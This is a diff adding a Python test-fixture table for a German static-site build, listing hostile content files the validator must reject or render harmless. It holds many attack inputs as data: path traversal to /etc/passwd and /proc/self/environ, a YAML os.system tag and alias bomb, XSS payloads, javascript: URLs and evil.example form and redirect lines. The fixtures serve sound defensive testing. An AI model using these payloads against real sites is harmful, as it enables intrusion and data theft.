@@ -1,0 +1,217 @@
+"""A table of hostile and broken content files, as careless or hostile editors write them.
+
+Each case is one small fixture (a file or two below content/) and its expected outcome:
+- REJECTED: the build fails, and one German message line names the case's first file and
+  contains every one of `expect` (what is wrong, and where);
+- ACCEPTED: the build succeeds, `absent` appears in no output at all (pages, feeds,
+  calendars, JSON, e-mail, search index), `inert` (markup an editor typed as text) appears
+  in no place where it would be markup (pages, the HTML in feeds, JSON as served), and
+  `present` shows the file was really used.
+
+`SECRET` is the text of a file outside content/ (and of an environment variable of the
+build): no case may ever get it published. test_hostile.py builds all rejected cases in
+one run (every problem of every file at once) and all accepted ones in another.
+"""
+
+import dataclasses
+
+SECRET = "GEHEIMNIS-7f3a9c"
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+                    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201e221bc330000000049454e44ae426082")
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
+SECTIONS = "## Ausgangslage/Herausforderung\n\nA\n\n## Umsetzung\n\nB\n\n## Fazit\n\nC\n"
+
+
+@dataclasses.dataclass(frozen=True)
+class Case:
+    id: str
+    files: dict
+    expect: tuple = ()        # rejected: parts of the message naming the first file
+    absent: tuple = ()        # accepted: in no output
+    inert: tuple = ()         # accepted: only as text (escaped), never as markup
+    present: tuple = ()       # accepted: (output file, text) pairs
+    links: tuple = ()         # (path below content/, target): symbolic links; "SECRET" = outside
+
+    @property
+    def rejected(self):
+        return bool(self.expect)
+
+    @property
+    def first_file(self):
+        return next(iter(self.files), None) or self.links[0][0]
+
+
+def page(name, head="title: Seite", body="Text."):
+    return {f"pages/{name}.md": f"---\n{head}\n---\n{body}\n"}
+
+
+def event(name, head="", body="Beschreibung."):
+    return {f"events/2026-05-04-{name}.md":
+            f"---\ntitle: Termin {name}\nstart: 2026-05-04 10:00\n{head}\n---\n{body}\n"}
+
+
+def issue(number, head="", body="Liebe Leserinnen und Leser,\n\n## Artikel\n\nText."):
+    return {f"newsletter/2026-{number:02d}.md":
+            f"---\nissue: {number}\nyear: 2026\ndate: 2026-0{1 + number % 9}-01\n"
+            f"summary: Ausgabe {number}\n{head}\n---\n{body}\n"}
+
+
+def sheet(name, head="", body=SECTIONS):
+    return {f"good-practice/{name}.md":
+            f"---\ntitle: Steckbrief {name}\nsubtitle: Untertitel\ndate: 2024-05-01\n"
+            "criteria:\n  innovative: true\naudiences: [Jobcenter]\n"
+            "instrument:\n  type: Instrument\n  name: Karten\n  description: Karten.\n"
+            f"provider: Träger e.V.\n{head}\n---\n{body}\n"}
+
+
+OUTSIDE = "führt aus dem Ordner content/ heraus"
+NOT_ALLOWED = "ist nicht erlaubt"
+
+REJECTED = [
+    # Paths that leave content/ (Pelican itself would copy their target).
+    Case("attach-traversal", page("r-attach", body="[x]({attach}/../geheim.txt)"), ("Zeile 4", OUTSIDE)),
+    Case("attach-proc-environ", page("r-environ", body="[x]({attach}/../../../../../../../../proc/self/environ)"), (OUTSIDE,)),
+    Case("static-etc-passwd", page("r-passwd", body="![Datei]({static}/../../../../../../etc/passwd)"), (OUTSIDE,)),
+    Case("static-pelicanconf", page("r-conf", body="[x]({static}/../../pelicanconf.py)"), (OUTSIDE,)),
+    Case("old-bar-syntax", page("r-bar", body="[x](|attach|../../geheim.txt)"), (OUTSIDE,)),
+    Case("relative-image-outside", page("r-relout", body="![Geheim](../../geheim.txt)"), (OUTSIDE,)),
+    Case("summary-attach", page("r-sumattach", head="title: S\nsummary: '[x]({attach}/../geheim.txt)'"), ("Schlüssel „summary“", OUTSIDE)),
+    Case("newsletter-image-outside", issue(1, head="image:\n  src: '{static}/../geheim.txt'\n  alt: Bild"), ("image.src", OUTSIDE)),
+    Case("placeholder-in-title-attribute", page("r-attrtrick", body="<a href=\"https://example.org/\" title=\"x' src='{attach}/../geheim.txt\">x</a>"), ("Platzhalter",)),
+    Case("unknown-placeholder", page("r-tag", body="[x]({tag}geheim)"), ("Platzhalter „{tag}“",)),
+    # Symbolic links.
+    Case("symlink-image", {}, ("Verknüpfung",), links=(("images/r-link.png", "SECRET"),)),
+    Case("symlink-page", {}, ("Verknüpfung",), links=(("pages/r-link.md", "SECRET"),)),
+    Case("symlink-folder", {}, ("Der Ordner ist eine Verknüpfung",), links=(("images/r-linkdir", "/etc"),)),
+    # Strict front matter.
+    Case("duplicate-status", page("r-dup", head="title: D\nstatus: draft\nstatus: published"), ("Zeile 4", "„status“", "zweimal", "Zeile 3")),
+    Case("duplicate-nested", sheet("r-dupnested", head="links:\n  - title: A\n    title: B\n    url: https://example.org/"), ("zweimal",)),
+    Case("anchor-alias", page("r-alias", head="title: &t Titel\nsummary: *t"), ("Anker (&t)",)),
+    Case("alias-bomb", page("r-bomb", head="title: Bombe\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\nh: [*g, *g, *g, *g, *g, *g, *g, *g, *g]"), ("Verweise (*a)",)),
+    Case("merge-key", page("r-merge", head="title: M\n<<: {summary: x}"), ("Zusammenführungen",)),
+    Case("python-tag", page("r-pytag", head="title: !!python/object/apply:os.system ['id']"), ("Typangaben",)),
+    Case("binary-tag", page("r-binary", head="title: T\nsummary: !!binary aGFsbG8="), ("Typangaben",)),
+    Case("deep-nesting", page("r-deep", head="title: T\nx: " + "[" * 40 + "]" * 40), ("verschachtelt",)),
+    Case("huge-number", {"newsletter/2026-02.md": "---\nissue: " + "9" * 5000 + "\nyear: 2026\ndate: 2026-03-01\nsummary: S\n---\nText\n"}, ("Zahl", "zu lang")),
+    Case("issue-too-big", {"newsletter/2026-03.md": "---\nissue: 1000000000000000000000000000000\nyear: 2026\ndate: 2026-04-01\nsummary: S\n---\nText\n"}, ("Schlüssel „issue“",)),
+    Case("issue-zero", {"newsletter/2026-04.md": "---\nissue: 0\nyear: 2026\ndate: 2026-05-01\nsummary: S\n---\nText\n"}, ("von 1 bis 99",)),
+    Case("title-yes", page("r-yes", head="title: yes"), ("„yes“ liest YAML als Ja/Nein",)),
+    Case("title-number", page("r-number", head="title: 2025"), ("„2025“ liest YAML als Zahl",)),
+    Case("title-list", page("r-list", head="title: [a, b]"), ("eine Liste",)),
+    Case("title-newline", page("r-newline", head='title: "Erste Zeile\\nBEGIN:VEVENT"'), ("Zeilenumbruch",)),
+    Case("title-too-long", page("r-longtitle", head="title: " + "Sehr langer Titel " * 30), ("zu lang",)),
+    Case("header-too-long", page("r-longhead", head="title: T\nsummary: " + "x" * 70000), ("Kopfbereich ist mit",)),
+    Case("status-capitalised", page("r-status", head="title: T\nstatus: Draft"), ("„Draft“ ist kein gültiger Status",)),
+    Case("key-in-other-case", page("r-keycase", head="title: T\nStatus: draft"), ("Schlüssel „Status“", "Meinten Sie „status“?")),
+    Case("number-as-key", page("r-numkey", head="title: T\n1: eins"), ("kein Schlüssel",)),
+    Case("lang-en-event", event("r-lang", head="lang: en"), ("Schlüssel „lang“", "nur auf Deutsch")),
+    Case("lang-en-page", page("r-langpage", head="title: T\nlang: en"), ("nur auf Deutsch",)),
+    Case("year-0001", page("r-year1", head="title: T\ndate: 0001-01-01"), ("Das Jahr 1",)),
+    Case("year-9999", event("r-year9999", head="end: 9999-12-31 23:59"), ("Das Jahr 9999",)),
+    Case("date-does-not-exist", page("r-feb30", head="title: T\ndate: 2025-02-30"), ("kein gültiges Datum",)),
+    Case("tab-indent", page("r-tab", head="title: T\nimage:\n\tsrc: x.png"), ("Tabulator",)),
+    Case("colon-in-value", page("r-colon", head="title: Thema: Untertitel"), ("Doppelpunkt",)),
+    Case("no-header", {"pages/r-nohead.md": "Nur Text.\n"}, ("Kopfbereich fehlt",)),
+    Case("header-not-closed", {"pages/r-open.md": "---\ntitle: T\nText ohne Ende des Kopfbereichs\n"}, ("Kopfbereich fehlt",)),
+    Case("empty-file", {"pages/r-empty.md": ""}, ("Kopfbereich fehlt",)),
+    Case("not-utf8", {"pages/r-latin1.md": "---\ntitle: Grüße\n---\nText\n".encode("latin-1")}, ("UTF-8", "Zeile 2")),
+    Case("file-too-big", {"pages/r-big.md": "---\ntitle: T\n---\n" + "Text. " * 400_000}, ("größer als 2 MB",)),
+    # Hidden characters.
+    Case("nul-in-body", page("r-nul", body="a\x00b"), ("Zeile 4", "U+0000")),
+    Case("bell-escape-in-uid", event("r-uid", head='uid: "abc\\x07\\r\\nATTENDEE:x"'), ("Schlüssel „uid“", "U+0007")),
+    Case("right-to-left-override", page("r-rlo", body="Preis: 100 \u202e€ 001"), ("Richtungsumkehr", "U+202E")),
+    Case("uid-with-spaces", event("r-uidspace", head="uid: 'mein termin'"), ("Kalender-Kennung",)),
+    # HTML that is not allowed.
+    Case("script", page("r-script", body="<script>alert('x')</script>"), ("Zeile 4", "<script>", NOT_ALLOWED)),
+    Case("script-mixed-case", page("r-script2", body="<ScRiPt src=//evil.example/x.js></ScRiPt>"), ("<script>",)),
+    Case("iframe", page("r-iframe", body='<iframe src="https://www.youtube.com/embed/x"></iframe>'), ("<iframe>", "Datenschutz")),
+    Case("object-embed", page("r-object", body='<object data="x.swf"></object>'), ("<object>",)),
+    Case("form", page("r-form", body='<form action="https://evil.example/"><input name="pw"></form>'), ("<form>",)),
+    Case("svg-onload", page("r-svgtag", body="<svg onload=alert(1)></svg>"), ("<svg>",)),
+    Case("style-element", page("r-style", body="<style>body{display:none}</style>"), ("<style>",)),
+    Case("meta-refresh", page("r-meta", body='<meta http-equiv="refresh" content="0;url=https://evil.example/">'), ("<meta>",)),
+    Case("event-handler", page("r-onerror", body='<img src="x.png" alt="x" onerror="alert(1)">'), ("„onerror“", "Skript")),
+    Case("attr-list-onclick", page("r-attrlist", body='## Titel {: onclick="alert(1)" }'), ("„onclick“",)),
+    Case("style-attribute", page("r-styleattr", body='<p style="position:fixed">x</p>'), ("„style“",)),
+    Case("javascript-link", page("r-js", body="[klick](javascript:alert(1))"), ("javascript:",)),
+    Case("javascript-entity", page("r-jsentity", body='<a href="java&#115;cript:alert(1)">x</a>'), ("javascript:",)),
+    # Markdown turns the tab into spaces: no scheme any more, a link that leads nowhere.
+    Case("javascript-tab", page("r-jstab", body='<a href="java\tscript:alert(1)">x</a>'), ("führt ins Leere",)),
+    Case("javascript-newline", page("r-jsnl", body='<a href="java&#10;script:alert(1)">x</a>'), ("javascript:",)),
+    Case("data-url", page("r-data", body="[x](data:text/html;base64,PHNjcmlwdD4=)"), ("data:",)),
+    Case("summary-javascript", page("r-sumjs", head="title: T\nsummary: '[x](javascript:alert(1))'"), ("Schlüssel „summary“", "javascript:")),
+    Case("summary-foreign-image", page("r-sumimg", head="title: T\nsummary: '![x](https://tracker.example/p.png)'"), ("anderen Website",)),
+    Case("foreign-image", page("r-img", body="![Zähler](https://tracker.example/pixel.png)"), ("anderen Website", "Datenschutz")),
+    Case("protocol-relative-image", page("r-img2", body='<img src="//tracker.example/p.png" alt="x">'), ("anderen Website",)),
+    Case("mailto-with-cc", page("r-mailto", body="[Mail](mailto:a@example.org?cc=b@example.org&bcc=c@example.org)"), ("E-Mail-Link", "?")),
+    Case("image-without-alt", page("r-noalt", body="![](../images/r-bild.png)") | {"images/r-bild.png": PNG}, ("Alternativtext",)),
+    Case("image-wrong-case", page("r-case", body="![Bild](../images/R-Case.PNG)") | {"images/r-case.png": PNG}, ("gibt es nicht", "Meinten Sie „../images/r-case.png“?")),
+    Case("link-to-missing-page", page("r-missing", body="[Kontakt](kontakkt.md)") | page("r-kontakt"), ("zeigt auf eine Datei, die es nicht gibt",)),
+    Case("h1-in-newsletter", issue(5, body="# Newsletter\n\nText"), ("einzelnen #",)),
+    # Files the site would silently not read, or must not publish.
+    Case("upper-case-ending", {"pages/r-upper.MD": "---\ntitle: T\n---\nx\n"}, ("„.MD“", "r-upper.md")),
+    Case("md-txt", {"pages/r-word.md.txt": "---\ntitle: T\n---\nx\n"}, ("„r-word.md“",)),
+    Case("word-document", {"newsletter/r-ausgabe.docx": b"PK\x03\x04"}, ("nur Markdown-Dateien",)),
+    Case("html-file-in-images", {"images/r-seite.html": "<script>alert(1)</script>"}, ("„.html“",)),
+    Case("svg-with-script", {"images/r-bild.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}, ("<script>",)),
+    Case("svg-onload-file", {"images/r-onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}, ("„onload“",)),
+    Case("svg-external", {"images/r-extern.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://tracker.example/p.png"/></svg>'}, ("verweist auf",)),
+    # Addresses.
+    Case("slug-with-dot", page("r-sitemap", head="title: T\nslug: sitemap.xml"), ("„sitemap.xml“ taugt nicht als Adresse",)),
+    Case("slug-traversal", page("r-slugtrav", head="title: T\nslug: ../../etc"), ("taugt nicht als Adresse",)),
+    Case("slug-reserved", page("r-termine", head="title: T\nslug: termine"), ("„termine/“ gehört einem Bereich",)),
+    Case("slug-twice", page("r-twice-b", head="title: B\nslug: r-twice") | page("r-twice-a", head="title: A\nslug: r-twice"), ("„r-twice/“ hat schon", "r-twice-a.md")),
+    Case("factsheet-slug-reserved", sheet("r-kriterium", head="slug: kriterium"), ("gehört schon zum Archiv",)),
+    # Front-matter addresses.
+    Case("event-javascript-url", event("r-jsurl", head="registration_url: javascript:alert(1)"), ("registration_url", "keine vollständige Internetadresse")),
+    Case("event-url-with-quote", event("r-quoteurl", head="registration_url: 'https://example.org/\"><script>'"), ("keine vollständige Internetadresse",)),
+    Case("sheet-link-data-url", sheet("r-dataurl", head="links:\n  - title: X\n    url: data:text/html,x"), ("links: url",)),
+    Case("sheet-mail-with-cc", sheet("r-mailcc", head="contact:\n  email: a@example.org?cc=b@example.org"), ("E-Mail-Adresse",)),
+    Case("sheet-phone-octal", sheet("r-phone", head="contact:\n  phone: 0306521666"), ("liest YAML als Zahl",)),
+]
+
+ACCEPTED = [
+    Case("html-comment-removed", page("a-comment", head="title: Kommentar", body="Sichtbar-a1.\n\n<!-- GEHEIME-NOTIZ-a1 -->\n\nWeiter <!-- NOTIZ-INLINE-a1 --> im Text."),
+         absent=("GEHEIME-NOTIZ-a1", "NOTIZ-INLINE-a1"), present=(("kommentar/index.html", "Sichtbar-a1"),)),
+    Case("draft-page", page("a-draft", head="title: ENTWURF-MARKE-a2\nstatus: draft", body="ENTWURF-TEXT-a2"),
+         absent=("ENTWURF-MARKE-a2", "ENTWURF-TEXT-a2")),
+    Case("hidden-page", page("a-hidden", head="title: VERSTECKT-a3\nstatus: hidden", body="VERSTECKT-TEXT-a3"),
+         absent=("VERSTECKT-a3", "VERSTECKT-TEXT-a3")),
+    Case("draft-event", event("a-draftevent", head="status: draft", body="ENTWURF-TERMIN-a4"), absent=("ENTWURF-TERMIN-a4", "a-draftevent")),
+    Case("draft-issue", issue(6, head="status: draft", body="ENTWURF-AUSGABE-a5\n\n## Artikel\n\nx"), absent=("ENTWURF-AUSGABE-a5",)),
+    Case("draft-sheet", sheet("a-draftsheet", head="status: draft", body="ENTWURF-STECKBRIEF-a6\n\n" + SECTIONS), absent=("ENTWURF-STECKBRIEF-a6",)),
+    Case("script-in-title-is-text", page("a-titlescript", head="title: '<script>alert(\"a7\")</script> Titel'\nslug: a-titel", body="Text a7."),
+         inert=('<script>alert("a7")',), present=(("a-titel/index.html", "&lt;script&gt;alert"),)),
+    Case("markup-in-summary-is-text", page("a-summary", head="title: Anreißer a8\nsummary: '<img src=x onerror=alert(8)> a8'"),
+         inert=("<img src=x onerror",)),
+    Case("script-in-event-fields", event("a-fields", head="location: '<script>a9()</script>'\norganiser: '\"><img src=x onerror=a9>'"),
+         inert=("<script>a9()", "<img src=x onerror=a9")),
+    Case("script-in-sheet-fields", sheet("a-sheetfields", head="project: '</script><script>a10()</script>'\ncontact:\n  name: '<b onmouseover=a10()>x</b>'"),
+         inert=("<script>a10()", "<b onmouseover")),
+    Case("credit-with-markup", issue(7, head="image:\n  src: ../images/a-titel.png\n  alt: Titelbild\n  credit: '© <script>a11()</script>'") | {"images/a-titel.png": PNG},
+         inert=("<script>a11()",)),
+    Case("secret-path-as-text", page("a-pathtext", head="title: '{attach}/../geheim.txt a12'\nslug: pfad-a12", body="Der Pfad {static}/../geheim.txt bleibt Text a12."),
+         present=(("pfad-a12/index.html", "bleibt Text a12"),)),
+    Case("windows-line-endings", {"pages/a-crlf.md": "---\r\ntitle: Windows a13\r\n---\r\nZeile eins a13.\r\n\r\nZeile zwei.\r\n"},
+         present=(("windows-a13/index.html", "Zeile eins a13."),)),
+    Case("old-mac-line-endings", {"pages/a-cr.md": "---\rtitle: Mac a14\r---\rText a14.\r"}, present=(("mac-a14/index.html", "Text a14."),)),
+    Case("byte-order-mark", {"pages/a-bom.md": "\ufeff---\ntitle: BOM a15\n---\nText a15.\n"}, present=(("bom-a15/index.html", "Text a15."),)),
+    Case("header-with-trailing-spaces", {"pages/a-spaces.md": "---  \ntitle: Leerzeichen a16\n---   \nText a16.\n"}, present=(("leerzeichen-a16/index.html", "Text a16."),)),
+    Case("relative-image", page("a-relimg", head="title: Bild a17", body="![Ein Bild a17](../images/a-bild.png)") | {"images/a-bild.png": PNG},
+         present=(("bild-a17/index.html", 'src="https://www.iq-niedersachsen.example/images/a-bild.png"'),)),
+    Case("image-from-content-root", page("a-rootimg", head="title: Wurzel a18", body="![Bild a18](images/a-bild2.png)") | {"images/a-bild2.png": PNG},
+         present=(("wurzel-a18/index.html", '/images/a-bild2.png"'),)),
+    Case("relative-page-link", page("a-rellink", head="title: Link a19", body="[Zur Seite a19](a-ziel.md)") | page("a-ziel", head="title: Ziel a19\nslug: ziel-a19"),
+         present=(("link-a19/index.html", '/ziel-a19/">Zur Seite a19'),)),
+    Case("document-download", page("a-pdf", head="title: PDF a20", body="[Flyer (PDF)](../images/a-flyer.pdf)") | {"images/a-flyer.pdf": b"%PDF-1.4\n%%EOF\n"},
+         present=(("pdf-a20/index.html", '/images/a-flyer.pdf">Flyer'),)),
+    Case("safe-svg", {"images/a-grafik.svg": SVG}, present=(("images/a-grafik.svg", "<rect"),)),
+    Case("allowed-html", page("a-html", head="title: HTML a21", body="<details><summary>Mehr a21</summary><p>Inhalt <abbr title=\"Integration durch Qualifizierung\">IQ</abbr></p></details>\n\n| a | b |\n|:--|--:|\n| 1 | 2 |"),
+         present=(("html-a21/index.html", "<details>"), ("html-a21/index.html", 'style="text-align:right"'))),
+    Case("webcal-tel-mailto", page("a-links", head="title: Links a22", body="[Abo](webcal://example.org/k.ics) [Tel](tel:+49511123456) [Mail](mailto:team@example.org)"),
+         present=(("links-a22/index.html", 'href="tel:+49511123456"'),)),
+    Case("gender-star-and-date", page("a-german", head="title: Deutsch a23", body="16. Juni 2025 trafen sich Partner*innen und Bewerber*innen."),
+         present=(("deutsch-a23/index.html", "Partner*innen und Bewerber*innen"),)),
+    Case("footnote-german", page("a-footnote", head="title: Fußnote a24", body="Text[^1].\n\n[^1]: Quelle a24."),
+         absent=("Jump back",), present=(("fussnote-a24/index.html", "Zurück zur Fußnote 1 im Text"),)),
+]
